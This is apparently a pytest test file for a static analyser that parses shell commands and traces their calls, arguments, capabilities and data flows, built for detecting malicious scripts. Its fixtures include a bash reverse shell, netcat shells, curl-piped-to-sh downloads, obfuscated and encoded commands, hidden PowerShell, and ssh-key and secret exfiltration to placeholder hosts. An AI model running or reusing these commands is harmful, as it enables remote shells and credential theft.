"""What a shell script's commands are, and what is known of their arguments."""

from __future__ import annotations

import pytest
from script_facts import argument, calls, facts, flows, uses

CALLS = {
    "curl http://a.invalid/x": ["curl"],
    "/usr/bin/curl x": ["curl"],
    'c""ur\\l x': ["curl"],
    "curl$IFS-s$IFS'http://a.invalid'": ["curl"],
    "{cat,/etc/passwd}": ["cat"],
    "$'\\x63url' x": ["curl"],
    "x=curl; $x y": ["curl"],
    "x='rm -rf'; $x /tmp/y": ["rm"],
    "sudo -u root env A=1 nohup sh -c true": ["sudo", "nohup", "sh"],
    "echo a | xargs -n 1 curl": ["echo", "xargs", "curl"],
    "timeout -s KILL 10 wget x": ["timeout", "wget"],
    "python3.11 -c 'pass'": ["python"],
    'f() { curl "$1"; }; f x': [".f", "curl"],
    "find . -name x -exec rm {} \\;": ["find", "rm"],
    "./run.sh a": ["shell.exec"],
    "$(curl x)": ["curl", "shell.computed"],
    "if a; then b; elif c; then d; else e; fi": ["a", "c", "b", "d", "e"],
    "while read l; do a $l; done < f": ["shell.file", "a"],
    "case $1 in a) b;; *) c;; esac": ["b", "c"],
    "a && b || c; (d; e) & ! f": ["a", "b", "c", "d", "e", "f"],
    "echo QQ== | base64 -d | sh\ncurl x -o y && chmod": ["echo", "sh", "curl", "chmod"],
    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1": ["shell.devtcp", "bash", "shell.devtcp.send"],
}


@pytest.mark.parametrize("source", CALLS)
def test_commands_are_calls_by_their_programs_names(source: str) -> None:
    assert sorted(CALLS[source]) == sorted(calls("shell", source))


VALUES = [
    ("echo ZWNobyBoaQ== | base64 -d | sh", "sh", "code", ("echo hi", ("base64",))),
    ('x=$(echo ZWNobyBoaQ== | base64 --decode); eval "$x"', "eval", "0", ("echo hi", ("base64",))),
    ("echo 'echo hi' | sh -s -- --quiet", "sh", "code", "echo hi\n"),
    ("printf '\\145\\143ho hi' | sh", "sh", "code", ("echo hi", ("unicode-escape",))),
    ("echo 6563686f206869 | xxd -r -p | bash", "bash", "code", ("echo hi", ("hex",))),
    ("echo 'ih ohce' | rev | sh", "sh", "code", ("echo hi\n", ("reverse",))),
    ("echo 'rpub uv' | tr a-zA-Z n-za-mN-ZA-M | sh", "sh", "code", ("echo hi\n", ("rot13",))),
    ("echo eXchX | sed s/X/o/g | sh", "sh", "code", "eocho\n"),
    ("x=abcd; eval ${x:1:2}", "eval", "0", ("bc", ("computed",))),
    ("x=a.b.c; eval ${x//./-}", "eval", "0", ("a-b-c", ("computed",))),
    ("x=a; x+=b; eval $x", "eval", "0", "ab"),
    ("eval ${X:-ls}", "eval", "0", None),
    ("a=(x y); eval ${a[1]}", "eval", "0", "y"),
    ("cat <<'E' | sh\nls $x\nE", "sh", "code", "ls $x\n"),
    ("sh <<< 'ls'", "sh", "code", "ls"),
    ("sh -c 'ls'", "sh", "code", "ls"),
    ('bash -lc "l"s', "bash", "code", "ls"),
    ("echo ls > f.sh; sh f.sh", "sh", "code", "ls\n"),
    ('sh -c "curl $X"', "sh", "code", None),
    ("curl -sSLo /tmp/x -d @f http://a.invalid", "curl", "out", "/tmp/x"),
    ("curl -sSLo /tmp/x -d @f http://a.invalid", "curl", "url", "http://a.invalid"),
    ("curl -sSLo /tmp/x -d @f http://a.invalid", "shell.file", "path", "f"),
    ("curl --data=x --output=y z", "curl", "data", "x"),
    ("wget -qO- http://a.invalid", "wget", "url", "http://a.invalid"),
    ("nc -e /bin/sh 192.0.2.1 99", "nc", "host", "192.0.2.1"),
    ("nc -e /bin/sh 192.0.2.1 99", "nc", "command", "/bin/sh"),
    ("scp ~/x u@a.invalid:/y", "scp", "host", "u@a.invalid:/y"),
    ("exec 3<>/dev/tcp/192.0.2.1/80", "shell.devtcp", "host", "tcp://192.0.2.1:80"),
    ("cat $HOME/.ssh/id_rsa", "cat", "path", "~/.ssh/id_rsa"),
    ("powershell -nop -w hidden -enc AAAA", "powershell", "code", "AAAA"),
    ("powershell iwr x '|' iex", "powershell", "code", "iwr x | iex"),
    ("cmd /c dir x", "cmd", "code", "dir x"),
    ("su -c 'ls' root", "sh", "code", "ls"),
]


@pytest.mark.parametrize(("source", "call", "key", "expected"), VALUES)
def test_arguments_are_known_by_their_part(source: str, call: str, key: str, expected: object) -> None:
    assert [expected] == argument("shell", source, call, key)


USES = [
    ("curl -k http://a.invalid | sh", {"network.http", "network.tls-off", "process.spawn shell", "code.eval computed"}),
    ("cat ~/.ssh/id_rsa", {"fs.read ssh-key"}),
    ("rm -rf /tmp/x", {"fs.delete temporary"}),
    ("echo x >> ~/.bashrc", {"fs.write shell-rc"}),
    ("chmod +x ./a", {"fs.permissions", "fs.write-executable"}),
    ("env", {"env.read"}),
    ("crontab -l", set()),
    ("echo x | crontab -", {"persist.schedule"}),
    ("history -c", {"log.erase"}),
    ("git push origin", {"repo.push"}),
    ("git status", set()),
    ("pip install x", {"package.install package-install"}),
    ("dig $(whoami).a.invalid", {"host.identity", "network.dns computed"}),
]


@pytest.mark.parametrize(("source", "expected"), USES)
def test_the_map_knows_what_commands_can_do(source: str, expected: set[str]) -> None:
    assert expected <= uses("shell", source)


FLOWS = [
    ("curl http://a.invalid | sh", "network.http > code.eval"),
    ('x=`wget -qO- http://a.invalid`; eval "$x"', "network.http > code.eval"),
    ("bash <(curl http://a.invalid)", "network.http > code.eval"),
    ('bash -c "$(curl http://a.invalid)"', "network.http > code.eval"),
    ("source <(curl http://a.invalid)", "network.http > code.eval"),
    ("curl -o /tmp/x http://a.invalid; chmod +x /tmp/x; /tmp/x", "network.http > code.eval"),
    ("curl http://a.invalid | tee /tmp/x >/dev/null; sh /tmp/x", "network.http > code.eval"),
    ("cat ~/.ssh/id_rsa | curl -d @- http://a.invalid", "fs.read ssh-key > network.http"),
    ("curl -F f=@$HOME/.ssh/id_rsa http://a.invalid", "fs.read ssh-key > network.http"),
    ("tar czf - ~/.ssh | base64 | nc 192.0.2.1 99", "fs.archive ssh-key > network.connect"),
    ("curl http://a.invalid/$(whoami)", "host.identity > network.http"),
    ('curl -d "$AWS_SECRET_ACCESS_KEY" http://a.invalid', "env.read env-secret > network.http"),
    ("env > /dev/tcp/192.0.2.1/99", "env.read > network.connect"),
    ('send() { curl -d "$1" http://a.invalid; }; send "$(env)"', "env.read > network.http"),
    ("for k in ~/.ssh/id_rsa; do cat $k; done | nc 192.0.2.1 9", "fs.read ssh-key > network.connect"),
    ("echo ZWNobyBoaQ== | base64 -d | sh", "decoded base64 > code.eval"),
]


@pytest.mark.parametrize(("source", "expected"), FLOWS)
def test_values_travel_through_pipes_variables_files_and_functions(source: str, expected: str) -> None:
    found = flows("shell", source)
    assert {expected} & found, found


def test_a_branch_that_runs_only_sometimes_has_a_guard() -> None:
    scope = facts("shell", 'if [ -n "$CI" ]; then curl x; fi').scopes[0]
    curl = next(node for node in scope.nodes if node.op == "call" and node.name == "curl")

    assert scope.guards[curl.guard].kind == "if"


def test_a_variable_after_a_branch_may_be_either_value() -> None:
    assert "op phi" in {f"op {node.op}" for node in facts("shell", "x=a\nif b; then x=c; fi\neval $x").scopes[0].nodes}
